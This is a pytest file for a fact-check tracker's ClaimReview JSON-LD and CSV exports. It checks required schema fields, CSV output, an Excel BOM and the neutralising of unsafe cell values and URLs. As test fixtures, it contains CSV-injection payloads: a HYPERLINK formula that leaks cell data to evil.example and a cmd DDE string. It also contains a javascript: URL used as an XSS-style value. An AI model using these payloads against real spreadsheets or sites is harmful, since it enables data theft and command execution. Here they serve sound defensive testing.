"""ClaimReview JSON-LD and CSV exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import update

from tests.test_cli_flags import COURIER, LEDGER, POST, ok, write_first
from tracker.export import inert_cell
from tracker.store import open_store, session_scope
from tracker.store.models import Source

# What schema.org and Google's fact-check rich results require of a ClaimReview.
REQUIRED = {"@context", "@type", "url", "claimReviewed", "author", "reviewRating", "itemReviewed", "datePublished"}


def export_json(invoke, db: str) -> dict:
    return json.loads(ok(invoke(db, "export", "--format", "json", "--output", "-")).stdout)


def test_claimreview_covers_published_verdicts_with_required_fields(invoke, db_url: str, tmp_path: Path) -> None:
    ok(invoke(db_url, "ingest", str(write_first(tmp_path / "first"))))
    reviewed_yet = ok(invoke(db_url, "export", "--format", "claimreview", "--report-url", "https://fc.example/r"))
    assert json.loads(reviewed_yet.stdout) == []  # nothing ruled yet
    data = export_json(invoke, db_url)
    conflict = next(f for f in data["flags"] if f["kind"] == "conflict")
    corroboration = next(f for f in data["flags"] if f["kind"] == "corroboration")
    ok(invoke(db_url, "flags", "confirm", conflict["id"], "--by", "Ada Reviewer"))
    assert (
        json.loads(ok(invoke(db_url, "export", "--format", "claimreview", "--report-url", "https://x.example")).stdout)
        == []
    )
    ruled = {conflict["claim_ids"][0]: "inaccurate", corroboration["claim_ids"][0]: "accurate"}
    for claim_id, rating in ruled.items():
        said = ok(invoke(db_url, "verdicts", "propose", claim_id, rating, "--by", "Ada Reviewer")).stdout
        ok(invoke(db_url, "verdicts", "approve", said.split()[1], "--by", "Ben"))
    out = tmp_path / "reviews.jsonld"
    ok(invoke(db_url, "export", "--format", "claimreview", "--report-url", "https://fc.example/r", "-o", str(out)))
    reviews = json.loads(out.read_text(encoding="utf-8"))
    reviewed = {r["claimReviewed"]: r for r in reviews}
    texts = {c["id"]: c["text"] for c in data["claims"]}
    assert set(reviewed) == {texts[c] for c in ruled}
    for r in reviews:
        assert set(r) >= REQUIRED, r
        assert (r["@context"], r["@type"]) == ("https://schema.org", "ClaimReview")
        assert r["url"].startswith("https://fc.example/r/claims/") and r["url"].endswith(".html")
        assert r["author"]["@type"] == "Organization" and r["author"]["name"]
        rating = r["reviewRating"]
        assert rating["@type"] == "Rating" and rating["worstRating"] <= rating["ratingValue"] <= rating["bestRating"]
        assert rating["alternateName"]
        dt.date.fromisoformat(r["datePublished"])
        item = r["itemReviewed"]
        assert item["@type"] == "Claim" and item["author"]["name"] and item["appearance"]
        dt.date.fromisoformat(item["datePublished"])
        assert all(a["@type"] == "CreativeWork" and a["url"] for a in item["appearance"])
        days = [a.get("datePublished", "9999") for a in item["appearance"]]
        assert days == sorted(days) and item["firstAppearance"] == item["appearance"][0]
    wrong = reviewed[texts[conflict["claim_ids"][0]]]
    assert wrong["reviewRating"]["ratingValue"] == 1 and [e["name"] for e in wrong["editor"]] == ["Ada Reviewer", "Ben"]
    assert reviewed[texts[corroboration["claim_ids"][0]]]["reviewRating"]["ratingValue"] == 5
    assert len(reviewed[texts[corroboration["claim_ids"][0]]]["itemReviewed"]["appearance"]) >= 2


def test_csv_writes_claims_and_flags_tables(invoke, db_url: str, tmp_path: Path) -> None:
    ok(invoke(db_url, "ingest", str(write_first(tmp_path / "first"))))
    data = export_json(invoke, db_url)
    target = tmp_path / "claims.csv"
    ok(invoke(db_url, "export", "--format", "csv", "--output", str(target)))
    claims = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    flags = list(csv.DictReader(io.StringIO((tmp_path / "claims-flags.csv").read_text(encoding="utf-8"))))
    assert [c["claim_id"] for c in claims] == [c["id"] for c in data["claims"]]
    assert [f["flag_id"] for f in flags] == [f["id"] for f in data["flags"]]
    first = data["claims"][0]
    assert (claims[0]["text"], claims[0]["quote"]) == (first["text"], first["quote"])
    flagged = next(f for f in data["flags"] if f["kind"] == "conflict")
    row = next(c for c in claims if c["claim_id"] == flagged["claim_ids"][0])
    assert f"conflict:open#{flagged['id']}" in row["flags"].split()
    stdout = invoke(db_url, "export", "--format", "csv")
    assert stdout.exit_code == 2 and "csv writes two files" in stdout.stderr


FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', "+SUM(1,2)", "-2+3", "@cmd|' /C calc'!A0"]


def write_formula_outlets(root: Path) -> Path:
    """The three harbour stories, each outlet and title a spreadsheet formula (a csv module file, so quoted)."""
    root.mkdir(parents=True)
    rows = [["path", "outlet", "url", "published", "title"]]
    for i, text in enumerate([LEDGER, POST, COURIER]):
        (root / f"{i}.txt").write_text(text, encoding="utf-8")
        rows.append([f"{i}.txt", FORMULAS[i], f"https://s{i}.example/a", f"2024-01-1{i + 5}", FORMULAS[3]])
    with (root / "sources.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return root


def read_csv(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(invoke, db_url: str, tmp_path: Path) -> None:
    ok(invoke(db_url, "ingest", str(write_formula_outlets(tmp_path / "formulas"))))
    data = export_json(invoke, db_url)
    assert {s["outlet"] for s in data["sources"]} == set(FORMULAS[:3])  # the JSON export keeps the data as it is
    target = tmp_path / "claims.csv"
    ok(invoke(db_url, "export", "--format", "csv", "--output", str(target)))
    claims = read_csv(target)
    flags = read_csv(tmp_path / "claims-flags.csv")
    assert claims and flags
    assert {c["outlet"] for c in claims} == {"'" + f for f in FORMULAS[:3]}
    for row in claims + flags:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    by_id = {c["claim_id"]: c for c in claims}
    for c in data["claims"]:
        row = by_id[c["id"]]
        assert row["text"] in (c["text"], "'" + c["text"]) and row["quote"] in (c["quote"], "'" + c["quote"])
        assert (int(row["start"]), int(row["end"])) == (c["start"], c["end"])


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
     ("a=1", "a=1"), (" =1", " =1"), (12, "12"), (None, ""), ("", "")],
)  # fmt: skip
def test_inert_cell(value, cell: str) -> None:
    assert inert_cell(value) == cell


def test_csv_for_excel_starts_with_a_byte_order_mark(invoke, db_url: str, tmp_path: Path) -> None:
    ok(invoke(db_url, "ingest", str(write_first(tmp_path / "first"))))
    target = tmp_path / "claims.csv"
    ok(invoke(db_url, "export", "--format", "csv", "--excel", "--output", str(target)))
    for path in (target, tmp_path / "claims-flags.csv"):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
        rows = read_csv(path, encoding="utf-8-sig")
        assert rows and next(iter(rows[0])) in ("claim_id", "flag_id")
    ok(invoke(db_url, "export", "--format", "csv", "--output", str(target)))
    assert target.read_bytes().startswith(b"claim_id,")


def test_a_stored_url_that_is_not_http_is_never_exported_as_one(invoke, db_url: str, tmp_path: Path) -> None:
    """An address stored before URLs were checked: JSON gives null, ClaimReview names the source by its hash."""
    ok(invoke(db_url, "ingest", str(write_first(tmp_path / "first"))))
    engine = open_store(db_url)
    with session_scope(engine) as session:
        session.execute(update(Source).values(url="javascript:alert(document.domain)"))
    engine.dispose()
    data = export_json(invoke, db_url)
    assert [s["url"] for s in data["sources"]] == [None] * len(data["sources"])
    corroboration = next(f for f in data["flags"] if f["kind"] == "corroboration")
    said = ok(invoke(db_url, "verdicts", "propose", corroboration["claim_ids"][0], "accurate", "--by", "Ada")).stdout
    ok(invoke(db_url, "verdicts", "approve", said.split()[1], "--by", "Ben"))
    out = tmp_path / "reviews.jsonld"
    ok(invoke(db_url, "export", "--format", "claimreview", "--report-url", "https://fc.example/r", "-o", str(out)))
    reviews = json.loads(out.read_text(encoding="utf-8"))
    appearances = [a for r in reviews for a in r["itemReviewed"]["appearance"]]
    assert appearances and all(a["url"].startswith("urn:sha256:") for a in appearances)
    assert all(r["url"].startswith("https://fc.example/r/claims/") for r in reviews)
    assert "javascript:" not in out.read_text(encoding="utf-8")
